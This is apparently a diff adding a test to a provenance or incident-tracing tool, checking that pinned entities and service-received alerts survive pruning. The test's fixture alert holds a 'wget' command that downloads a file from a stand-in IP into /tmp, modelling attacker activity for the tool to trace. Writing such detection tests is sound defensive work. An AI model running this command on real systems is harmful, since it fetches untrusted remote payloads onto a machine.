@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable
+from contextlib import closing
 from pathlib import Path
 from shutil import copyfile
 from typing import Any
@@ -15,6 +16,9 @@ from ingest.facts import Flow, FlowKind
 from ingest.identity import EntityKind, format_id
 from provenance.cli import main
 from provenance.demo.incident import alert
+from provenance.pipeline import retention
+from provenance.service import queue
+from provenance.service.graphql import marks
 from provenance.store import open_store
 from provenance.store.interface import Alert, Direction, Selector
 from provenance.trace.budget import DEFAULT
@@ -89,6 +93,24 @@ def test_a_pinned_entity_keeps_what_leads_to_it(case: Path, answer: Callable[...
     before = answer("backtrack", "--id", start)
     assert answer("prune", "--before", AFTER, "--keep", start)["kept_slices"] == 1
     assert without_blind(answer("backtrack", "--id", start)) == without_blind(before)
+
+
+def test_what_is_pinned_or_was_received_in_the_service_stays(case: Path, answer: Callable[..., Any]) -> None:
+    assert retention.PIN == marks.PIN
+    (start,) = answer("backtrack", *SHELL)["query"]["start"]
+    before = answer("backtrack", "--id", start)
+    received = Alert(
+        "received", "ndr", "3", "", {"process": {"command": "wget -q http://203.0.113.61/3333 -O /tmp/3333"}}
+    )
+    with closing(open_store(str(case))) as store:
+        marks.pin(store.documents(), start, "the shell", "somebody", 0)
+        marks.pin(store.documents(), "pffffffffffffffff", "not here", "somebody", 0)
+        marks.pin(store.documents(), f"SPAWNED-{start}-{start}", "a flow", "somebody", 0)
+        queue.submit(store.documents(), received, 0)
+    done = answer("prune", "--before", AFTER)
+    assert (done["kept_slices"], done["unexplained_alerts"]) == (2, [])
+    assert without_blind(answer("backtrack", "--id", start)) == without_blind(before)
+    assert answer("find", "--command", "^wget -q http://203.0.113.61/3333")["entities"]
 
 
 def test_without_one_nothing_of_it_stays(case: Path, answer: Callable[..., Any], command: Command) -> None:
